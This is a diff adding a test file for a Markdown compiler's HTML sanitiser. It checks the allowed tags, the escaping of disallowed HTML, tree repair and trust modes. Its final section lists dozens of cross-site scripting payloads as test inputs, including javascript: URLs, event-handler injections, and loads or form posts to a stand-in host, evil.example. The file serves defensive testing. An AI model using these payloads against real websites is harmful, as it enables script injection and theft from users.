@@ -1,0 +1,263 @@
+// Raw HTML: a safe subset, everything else as text; links in it are links.
+import { Parser } from 'htmlparser2';
+import { describe, expect, it } from 'vitest';
+import { codesOf, compileText, toHtml } from '../../../support/compile-text.ts';
+
+describe('the safe subset', () => {
+  it.each([
+    ['Press <kbd>Ctrl</kbd>', '<p>Press <kbd>Ctrl</kbd></p>'],
+    ['a<br>b<br/>c<BR />d', '<p>a<br>b<br>c<br>d</p>'],
+    ['H<sub>2</sub>O<sup>+</sup> <mark>m</mark>', '<p>H<sub>2</sub>O<sup>+</sup> <mark>m</mark></p>'],
+    ['<abbr title="a &amp; b">x</abbr>', '<p><abbr title="a &amp; b">x</abbr></p>'],
+    [
+      '<span class="a b" lang="cs" aria-label="c">x</span>',
+      '<p><span class="a b" lang="cs" aria-label="c">x</span></p>',
+    ],
+    ['<table>\n<tr><td colspan="2">a</td></tr>\n</table>', '<table>\n<tr><td colspan="2">a</td></tr>\n</table>'],
+    [
+      '<figure>\n\n![a](b.png)\n\n<figcaption>c</figcaption>\n</figure>',
+      '<figure>\n<p><img src="b.png" alt="a" loading="lazy" decoding="async"></p>\n<figcaption>c</figcaption>\n</figure>',
+    ],
+    ['<div align="center">\n\n*a*\n\n</div>', '<div align="center">\n<p><em>a</em></p>\n</div>'],
+    ['<img src="a.png" width="10" alt="b">', '<img src="a.png" width="10" alt="b">'],
+    ['a <!-- note --> b', '<p>a  b</p>'],
+    ['<!-- truncate -->\n\na', '<p>a</p>'],
+    ['<p>a & b &lt; c</p>', '<p>a &amp; b &lt; c</p>'],
+    ['<details><summary>A</summary>b</details>', '<details><summary>A</summary>b</details>'],
+  ])('%j', (markdown, html) => {
+    expect(toHtml(markdown)).toBe(html);
+    expect(codesOf(markdown)).toEqual([]);
+  });
+
+  it('keeps ids as ids that links can lead to', () => {
+    expect(compileText('<a id="x"></a>\n\n<div id=\'y\'></div>').facts.ids).toEqual([
+      { id: 'x', span: { line: 1, column: 8, endLine: 1, endColumn: 9 } },
+      { id: 'y', span: { line: 3, column: 10, endLine: 3, endColumn: 11 } },
+    ]);
+  });
+});
+
+describe('everything else', () => {
+  it.each([
+    ['<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', ['html-not-allowed 1:1']],
+    [
+      'a <iframe src="x"></iframe>',
+      '<p>a &lt;iframe src=&quot;x&quot;&gt;&lt;/iframe&gt;</p>',
+      ['html-not-allowed 1:3'],
+    ],
+    ['<style>\na > b {}\n</style>', '&lt;style&gt;\na &gt; b {}\n&lt;/style&gt;', ['html-not-allowed 1:1']],
+    ['a <b onclick="x" class="y">c</b>', '<p>a <b class="y">c</b></p>', ['html-attribute-removed 1:15']],
+    ['a <b style="x">c</b>', '<p>a <b>c</b></p>', ['html-attribute-removed 1:13']],
+    ['a <Tabs>b</Tabs>', '<p>a &lt;Tabs&gt;b&lt;/Tabs&gt;</p>', ['component-in-markdown 1:3']],
+    [
+      'a <?php x ?> <!DOCTYPE html> <![CDATA[x]]>',
+      '<p>a &lt;?php x ?&gt; &lt;!DOCTYPE html&gt; &lt;![CDATA[x]]&gt;</p>',
+      ['html-not-allowed 1:3', 'html-not-allowed 1:14', 'html-not-allowed 1:30'],
+    ],
+    [
+      '> - a\n>\n>   <form>',
+      '<blockquote>\n<ul>\n<li>\n<p>a</p>\n&lt;form&gt;\n</li>\n</ul>\n</blockquote>',
+      ['html-not-allowed 3:5'],
+    ],
+  ])('%j is text, with a warning at its place', (markdown, html, codes) => {
+    expect(toHtml(markdown)).toBe(html);
+    expect(codesOf(markdown)).toEqual(codes);
+  });
+
+  it.each([
+    ['a <kbd>b', '<p>a <kbd>b</kbd></p>', ['html-unclosed 1:3']],
+    ['a </kbd>b', '<p>a &lt;/kbd&gt;b</p>', ['html-unmatched 1:3']],
+    ['- <div>\n- a', '<ul>\n<li>\n<div></div>\n</li>\n<li>a</li>\n</ul>', ['html-unclosed 1:3']],
+    [
+      '<div>\n\n> a\n> </div>\n\n</div>',
+      '<div>\n<blockquote>\n<p>a</p>\n&lt;/div&gt;\n</blockquote>\n</div>',
+      ['html-unmatched 4:3'],
+    ],
+    ['<b><i>a</b></i>', '<p><b><i>a</i></b>&lt;/i&gt;</p>', ['html-unclosed 1:4', 'html-unmatched 1:12']],
+    ['*a <b>c*</b>', '<p><em>a <b>c</b></em>&lt;/b&gt;</p>', ['html-unclosed 1:4', 'html-unmatched 1:9']],
+    ['[a <b>c](d)</b>', '<p><a href="d">a <b>c</b></a>&lt;/b&gt;</p>', ['html-unclosed 1:4', 'html-unmatched 1:12']],
+    [
+      ':::note[a <b>]\nc</b>\n:::',
+      '<aside class="admonition admonition-note" role="note" aria-label="a"><p class="admonition-title">a <b></b></p>\n<p>c&lt;/b&gt;</p>\n</aside>',
+      ['html-unclosed 1:11', 'html-unmatched 2:2'],
+    ],
+    ['<div>', '<div></div>', ['html-unclosed 1:1']],
+    ['a <ul>b</ul>', '<p>a &lt;ul&gt;b&lt;/ul&gt;</p>', ['html-misplaced 1:3']],
+    ['a <div class="b">*c*</div>', '<p>a <span class="b"><em>c</em></span></p>', []],
+    ['a <div>b', '<p>a <span>b</span></p>', ['html-unclosed 1:3']],
+    [
+      '[a <a href="x">b</a>](c)',
+      '<p><a href="c">a &lt;a href=&quot;x&quot;&gt;b&lt;/a&gt;</a></p>',
+      ['html-misplaced 1:4'],
+    ],
+  ])('%j stays a tree', (markdown, html, codes) => {
+    expect(toHtml(markdown).replace(/\s+(?=<\/div>\n<\/li>)/, '')).toBe(html);
+    expect(codesOf(markdown)).toEqual(codes);
+  });
+});
+
+describe('pages from generators that run code', () => {
+  it.each([
+    ["import Tabs from '@theme/Tabs';\nimport TabItem from '@theme/TabItem';", ['mdx-ignored 1:1']],
+    ["import '../x.css';", ['mdx-ignored 1:1']],
+    ['export const a = 1;', ['mdx-ignored 1:1']],
+    ['<Badge />\n\n<Badge>\n\na\n\n</Badge>\n\n<Card />', ['component-in-markdown 1:1', 'component-in-markdown 9:1']],
+    ['import the key from the “keys” page', []],
+    ['export all rows', []],
+  ])('%j is answered', (markdown, codes) => {
+    expect(codesOf(markdown)).toEqual(codes);
+  });
+});
+
+describe('modes', () => {
+  it('trusted keeps HTML as written, and its links are links', () => {
+    const markdown = '<div style="a"><a class="x" href="./y.md" data-b>c</a><script>d</script></div>';
+    expect(toHtml(markdown, { html: 'trusted' })).toBe(markdown);
+    expect(compileText(markdown, { html: 'trusted' }).facts.links.map(({ url }) => url)).toEqual(['./y.md']);
+  });
+
+  it('off makes all of it text', () => {
+    expect(toHtml('a <kbd>b</kbd><!-- c -->', { html: 'off' })).toBe('<p>a &lt;kbd&gt;b&lt;/kbd&gt;</p>');
+    expect(codesOf('a <kbd>b</kbd>', { html: 'off' })).toEqual(['html-off 1:3']);
+  });
+});
+
+/** Every spelling of an attack that came to mind; none may leave a tag or an attribute that runs, loads or embeds. */
+const attacks: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</script>',
+  '<script\n>alert(1)</script\n>',
+  '<script/x>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror="alert(1)"//',
+  '<img/src="x"/onerror=alert(1)>',
+  '<img src="x" OnErRoR="alert(1)">',
+  '<img src=`x` onerror=alert(1)>',
+  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg/onload=alert(1)>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="x.swf">',
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<form action="//evil.example"><input name=a><button>x</button></form>',
+  '<input onfocus=alert(1) autofocus>',
+  '<select autofocus onfocus=alert(1)>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<video src=x onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)></audio>',
+  '<marquee onstart=alert(1)>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<a href="x" onclick="alert(1)">y</a>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<div style="behavior:url(x)">x</div>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<!--><script>alert(1)</script>-->',
+  '<!---><script>alert(1)</script>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml version="1.0"?><script>alert(1)</script>',
+  '<a title="</a><script>alert(1)</script>">x</a>',
+  "<a title='\"><script>alert(1)</script>'>x</a>",
+  '<abbr title="x" onmouseover=alert(1)>y</abbr>',
+  '<b <script>alert(1)</script>>x</b>',
+  '<b/onclick=alert(1)>x</b>',
+  '<b onclick\n=\nalert(1)>x</b>',
+  '<b onclick="alert(1)" onclick="alert(2)">x</b>',
+  '<td background="javascript:alert(1)">x</td>',
+  '<blockquote cite="javascript:alert(1)">x</blockquote>',
+  '<q cite="  java\tscript:alert(1)">x</q>',
+  '<ins cite="vbscript:x">y</ins>',
+  '<del cite="data:text/html,<script>alert(1)</script>">y</del>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '`<script>alert(1)</script>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '```"><script>alert(1)</script>\nx\n```',
+  '``` "onmouseover=alert(1)\nx\n```',
+  '```js&#x20;onclick=alert(1)\nx\n```',
+  '```js title="</span><script>alert(1)</script>"\nx\n```',
+  ':::note[<script>alert(1)</script>]\nx\n:::',
+  ':::note{#"><script>alert(1)</script>}\nx\n:::',
+  ':::note{class="\\"><script>alert(1)</script>"}\nx\n:::',
+  ':::tabs{group="&quot;><script>alert(1)</script>"}\n:::',
+  '## <script>alert(1)</script>',
+  '## x {#"onclick="alert(1)}',
+  '## x <!-- #"><script>alert(1)</script> -->',
+  '![x" onerror="alert(1)](y)',
+  '![x](y "\\" onerror=\\"alert(1)")',
+  '[x](y "\\"><script>alert(1)</script>")',
+  '[x]: y "\\"><script>alert(1)</script>"\n\n[x]',
+  '[^"><script>]\n\n[^"><script>]: x',
+  '{{"><script>alert(1)</script>}}',
+  '| <script>alert(1)</script> |\n|---|\n| x |',
+  '- [x] <script>alert(1)</script>',
+  'www.example.com/"><script>alert(1)</script>',
+  'http://example.com/<script>alert(1)</script>',
+  '<http://example.com/"onmouseover="alert(1)>',
+];
+
+const running = new Set([
+  'script',
+  'style',
+  'iframe',
+  'object',
+  'embed',
+  'base',
+  'meta',
+  'link',
+  'form',
+  'svg',
+  'math',
+  'video',
+  'audio',
+  'template',
+]);
+
+describe('attacks', () => {
+  it.each(attacks)('%j leaves nothing that runs, loads or embeds', (markdown) => {
+    const found: string[] = [];
+    const parser = new Parser({
+      onopentag: (name, attributes) => {
+        if (running.has(name)) found.push(name);
+        for (const [attribute, value] of Object.entries(attributes)) {
+          if (/^on|^style$|^srcdoc$|^xlink/.test(attribute)) found.push(attribute);
+          // Addresses of links and images are judged where they are resolved; no other attribute may hold one that runs.
+          const address = (name === 'a' && attribute === 'href') || (name === 'img' && attribute === 'src');
+          const bare = value.replace(/[\u0000-\u0020]/g, '');
+          if (!address && /^(?:javascript|vbscript|data):/i.test(bare)) found.push(value);
+        }
+      },
+    });
+    parser.end(toHtml(markdown));
+    expect(found).toEqual([]);
+  });
+
+  it.each([
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](java&#115;cript:alert(1))',
+    '[x](<java\tscript:alert(1)>)',
+    '[x]\n\n[x]: javascript:alert(1)',
+    '<javascript:alert(1)>',
+    '![x](javascript:alert(1))',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="java&#115;cript:alert(1)">x</a>',
+    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href=" \n javascript:alert(1)">x</a>',
+    '<img src="javascript:alert(1)">',
+  ])('%j hands its address over decoded, to be refused where links are resolved', (markdown) => {
+    const { links } = compileText(markdown).facts;
+    expect(links).toHaveLength(1);
+    expect(links[0]?.url.replace(/[\u0000-\u0020]/g, '').toLowerCase()).toMatch(/^javascript:/);
+  });
+});
